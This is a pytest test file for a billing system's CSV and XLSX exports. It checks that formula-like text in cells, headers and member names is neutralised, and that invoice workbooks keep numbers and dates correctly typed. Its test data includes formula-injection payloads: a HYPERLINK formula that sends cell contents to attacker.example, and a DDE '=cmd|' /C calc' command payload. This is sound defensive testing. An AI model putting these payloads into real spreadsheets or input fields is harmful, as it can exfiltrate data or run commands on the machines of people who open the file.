"""Spreadsheet exports: text that a spreadsheet would run as a formula is neutralised in CSV and
XLSX alike, numbers stay numbers, dates stay dates; and the invoice downloads built on them."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest

from billing_core.billing.invoicing import issue_billing_run
from billing_core.exports import (
    DATE_FORMAT,
    MONEY_FORMAT,
    PERIOD_FORMAT,
    Column,
    Sheet,
    csv_bytes,
    neutralise,
    xlsx_bytes,
)
from billing_core.models import Adjustment
from billing_core.models.enums import AdjustmentStatus, Tier
from billing_core.money import D
from billing_core.reports.invoice_sheets import invoice_lines_sheets, invoice_lines_table
from tests.factories import enroll, make_dental_plan, make_group, make_member, make_subgroup

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "=cmd|' /C calc'!A0",
]

COLUMNS = [
    Column("Name"),
    Column("Amount", "money"),
    Column("Paid on", "date"),
    Column("Coverage month", "period"),
    Column("Rate", "rate"),
    Column("Lives", "integer"),
]


def _rows():
    return [
        (text, D("-12.50"), date(2027, 1, 15), date(2027, 2, 1), D("0.225"), 3) for text in FORMULAS
    ] + [("O'Brien, Siobhán", D("1234567.80"), None, None, D("1903.80"), None)]


def _in_xlsx(text: str) -> str:
    """XML parsers turn a carriage return into a line feed: the quote is what matters."""
    return "'" + text.replace("\r", "\n")


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise_prefixes_a_single_quote(text):
    assert neutralise(text) == "'" + text
    assert neutralise("Smith") == "Smith"
    assert neutralise("12 Main St =") == "12 Main St ="


def test_csv_neutralises_text_and_keeps_numbers_plain():
    [header, *rows] = _read_csv(csv_bytes(COLUMNS, _rows()))

    assert header == ["Name", "Amount", "Paid on", "Coverage month", "Rate", "Lives"]
    for text, row in zip(FORMULAS, rows, strict=False):
        assert row[0] == "'" + text
        assert row[1:] == ["-12.50", "2027-01-15", "2027-02", "0.225", "3"]
    assert rows[-1] == ["O'Brien, Siobhán", "1234567.80", "", "", "1903.80", ""]


def test_csv_refuses_floats_for_money_and_never_writes_minus_zero():
    with pytest.raises(TypeError, match="float"):
        csv_bytes([Column("Amount", "money")], [(12.5,)])
    [_, row] = _read_csv(csv_bytes([Column("Amount", "money")], [(D("-0.001"),)]))
    assert row == ["0.00"]


def test_csv_header_is_neutralised_and_rows_must_fit_the_columns():
    [header] = _read_csv(csv_bytes([Column("=1+1")], []))
    assert header == ["'=1+1"]
    with pytest.raises(ValueError, match="row 1 has 2 values for 1 columns"):
        csv_bytes([Column("A")], [("a", "b")])


def test_unknown_kind_is_refused():
    with pytest.raises(ValueError, match="unknown column kind"):
        Column("A", "currency")


def test_xlsx_neutralises_text_and_types_numbers_and_dates():
    data = xlsx_bytes([Sheet("Lines", COLUMNS, _rows())])
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    ws = workbook["Lines"]

    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:F{len(FORMULAS) + 2}"
    assert [c.value for c in ws[1]] == [c.header for c in COLUMNS]
    assert all(c.font.b for c in ws[1])
    for text, row in zip(FORMULAS, ws.iter_rows(min_row=2), strict=False):
        name, amount, paid_on, month, rate, lives = row
        assert name.data_type == "s" and name.value == _in_xlsx(text)
        assert amount.data_type == "n" and Decimal(str(amount.value)) == D("-12.50")
        assert amount.number_format == MONEY_FORMAT
        assert paid_on.is_date and paid_on.value == datetime(2027, 1, 15)
        assert paid_on.number_format == DATE_FORMAT
        assert month.is_date and month.value == datetime(2027, 2, 1)
        assert month.number_format == PERIOD_FORMAT
        assert Decimal(str(rate.value)) == D("0.225")
        assert lives.value == 3
    last = list(ws.iter_rows(min_row=len(FORMULAS) + 2))[0]
    assert last[0].value == "O'Brien, Siobhán"
    assert Decimal(str(last[1].value)) == D("1234567.80")
    assert last[2].value is None
    widths = [ws.column_dimensions[letter].width for letter in "ABCDEF"]
    assert all(8 <= w <= 60 for w in widths)
    assert widths[0] > widths[5]  # the formula text is wider than "Lives"


def test_xlsx_reads_back_the_same_with_pandas_calamine():
    data = xlsx_bytes([Sheet("Lines", COLUMNS, _rows())])
    frame = pd.read_excel(io.BytesIO(data), engine="calamine", sheet_name="Lines")

    assert list(frame["Name"][: len(FORMULAS)]) == [_in_xlsx(t) for t in FORMULAS]
    assert all(str(v) == "-12.5" for v in frame["Amount"][: len(FORMULAS)])
    assert str(frame["Amount"].iloc[-1]) == "1234567.8"
    assert frame["Paid on"].iloc[0] == pd.Timestamp(2027, 1, 15)
    assert frame["Coverage month"].iloc[0] == pd.Timestamp(2027, 2, 1)


def test_xlsx_sheets_titles_are_made_safe_and_control_characters_dropped():
    data = xlsx_bytes(
        [
            Sheet("Jan/Feb: [draft]?", [Column("A")], [("bell\x07ring",)]),
            Sheet("Jan/Feb: [draft]?", [Column("A")], []),
            Sheet("x" * 40, [Column("A")], []),
        ]
    )
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Jan Feb   draft", "Jan Feb   draft (2)", "x" * 31]
    assert workbook.worksheets[0]["A2"].value == "bellring"
    with pytest.raises(ValueError, match="at least one sheet"):
        xlsx_bytes([])


def test_xlsx_control_character_dropped_before_a_formula_is_still_neutralised():
    """Dropping a control character XML cannot hold may bare a formula trigger: neutralised
    after the drop too. Printable text (the quick path) and text with line ends alike."""
    rows = [("\x07=cmd|' /C calc'!A0",), ("\x1b@SUM(A1)",), ("Ann\r\nBaker",), ("=1+1",)]
    data = xlsx_bytes([Sheet("T", [Column("A")], rows)])
    ws = openpyxl.load_workbook(io.BytesIO(data))["T"]
    assert [ws[f"A{n}"].value for n in range(2, 6)] == [
        "'=cmd|' /C calc'!A0",
        "'@SUM(A1)",
        "Ann\nBaker",
        "'=1+1",
    ]


def test_rows_may_be_a_generator_longer_than_the_width_sample():
    rows = ((n, D(n) / 100) for n in range(1, 1201))
    data = xlsx_bytes([Sheet("Many", [Column("N", "integer"), Column("Amt", "money")], rows)])
    ws = openpyxl.load_workbook(io.BytesIO(data), read_only=True)["Many"]
    values = [(r[0], Decimal(str(r[1]))) for r in ws.iter_rows(min_row=2, values_only=True)]
    assert len(values) == 1200 and values[-1] == (1200, D("12.00"))


# --------------------------------------------------------------------------- invoice downloads

FEB = date(2027, 2, 1)


@pytest.fixture
def invoiced(session):
    group = make_group(session)
    east = make_subgroup(session, group, "EAST")
    plan = make_dental_plan(session, group)
    attacker = make_member(
        session, group, last_name="=cmd|' /C calc'!A0", first_name="@SUM(1)", subgroup=east
    )
    plain = make_member(session, group, last_name="Baker", first_name="Ann")
    enroll(session, attacker, plan, "FAM")
    enroll(session, plain, plan, "EE")
    session.add(
        Adjustment(
            group_id=group.id,
            member_id=plain.id,
            plan_id=plan.id,
            coverage_month=date(2027, 1, 1),
            amount=D("-12.50"),
            reason_code="late_term",
            source_type="manual",
            status=AdjustmentStatus.APPROVED,
        )
    )
    session.flush()
    [invoice] = issue_billing_run(session, FEB, group_numbers=[group.group_number]).issued
    return invoice, east


def test_invoice_workbook_has_summary_member_lines_and_adjustments(session, invoiced):
    invoice, _ = invoiced
    sheets = invoice_lines_sheets(session, invoice)
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(sheets)))

    assert workbook.sheetnames == ["Member lines", "Adjustments and fees", "Summary"]
    summary = list(workbook["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary[-1][0] == "Total due"
    assert sum(Decimal(str(v)) for _, v in summary[:-1]) == invoice.total_due == D("138.10")

    lines = list(workbook["Member lines"].iter_rows(values_only=True))
    assert lines[0][:5] == ("Line", "Member ID", "Employee ID", "Last name", "First name")
    by_last = {row[3]: row for row in lines[1:]}
    attacker = by_last["'=cmd|' /C calc'!A0"]
    assert attacker[4] == "'@SUM(1)"
    assert attacker[8] == Tier.FAM.value and Decimal(str(attacker[11])) == D("112.40")
    assert attacker[7] == datetime(2027, 2, 1)

    [adjustment] = list(workbook["Adjustments and fees"].iter_rows(min_row=2, values_only=True))
    assert adjustment[0] == "Retro adjustment" and adjustment[5] == "Late-reported termination"
    assert Decimal(str(adjustment[6])) == D("-12.50")


def test_invoice_csv_is_one_flat_table_with_a_section_column(session, invoiced):
    invoice, _ = invoiced
    table = invoice_lines_table(session, invoice)
    [header, *rows] = _read_csv(csv_bytes(table.columns, table.rows))

    assert header[:2] == ["Section", "Line"]
    assert [r[0] for r in rows] == ["Premium", "Premium", "Retro adjustment"]
    assert sum(D(r[header.index("Amount")]) for r in rows) == D("138.10")
    assert rows[-1][header.index("Amount")] == "-12.50"
    assert "'=cmd|' /C calc'!A0" in [r[header.index("Last name")] for r in rows]


def test_subgroup_limited_downloads_show_only_their_members(session, invoiced):
    invoice, east = invoiced
    table = invoice_lines_table(session, invoice, subgroup_ids=frozenset({east.id}))
    rows = list(table.rows)
    assert [(r[0], r[4]) for r in rows] == [("Premium", "=cmd|' /C calc'!A0")]

    members, adjustments, summary = invoice_lines_sheets(
        session, invoice, subgroup_ids=frozenset({east.id})
    )
    assert len(list(members.rows)) == 1 and list(adjustments.rows) == []
    assert "limited to your locations" in list(summary.rows)[-1][0]


def test_a_large_invoice_is_streamed_row_by_row_and_still_neutralised(session, monkeypatch):
    """The member lines of a big invoice go through the constant-memory writer: read from the
    cursor as a generator, written by xlsxwriter in constant_memory mode (each row flushed to a
    temporary file as the next starts, strings inline: no shared-string table held for the
    whole sheet). A formula-like name past the 500-row width sample is still neutralised."""
    import zipfile
    from collections.abc import Iterator

    import xlsxwriter

    from billing_core import exports

    group = make_group(session)
    plan = make_dental_plan(session, group)
    for n in range(510):
        member = make_member(session, group, last_name=f"Member{n:04d}", first_name="Pat")
        enroll(session, member, plan, "EE")
    attacker = make_member(session, group, last_name='=HYPERLINK("http://x/")', first_name="+1")
    enroll(session, attacker, plan, "EE")
    session.flush()
    [invoice] = issue_billing_run(session, FEB, group_numbers=[group.group_number]).issued

    options_seen = []

    class SpyWorkbook(xlsxwriter.Workbook):
        def __init__(self, filename, options=None):
            options_seen.append(dict(options or {}))
            super().__init__(filename, options)

    monkeypatch.setattr(exports.xlsxwriter, "Workbook", SpyWorkbook)
    sheets = invoice_lines_sheets(session, invoice)
    assert isinstance(sheets[0].rows, Iterator), "member lines stream from the cursor"
    data = xlsx_bytes(sheets)

    assert options_seen == [exports._WORKBOOK_OPTIONS]
    assert options_seen[0]["constant_memory"] is True
    assert options_seen[0]["strings_to_formulas"] is False
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "xl/sharedStrings.xml" not in archive.namelist()
        assert b't="inlineStr"' in archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere

    ws = openpyxl.load_workbook(io.BytesIO(data), read_only=True)["Member lines"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 511
    by_last = {row[3]: row for row in rows}
    assert by_last['\'=HYPERLINK("http://x/")'][4] == "'+1"
    assert all(isinstance(row[11], int | float) and row[11] > 0 for row in rows)  # money: numbers
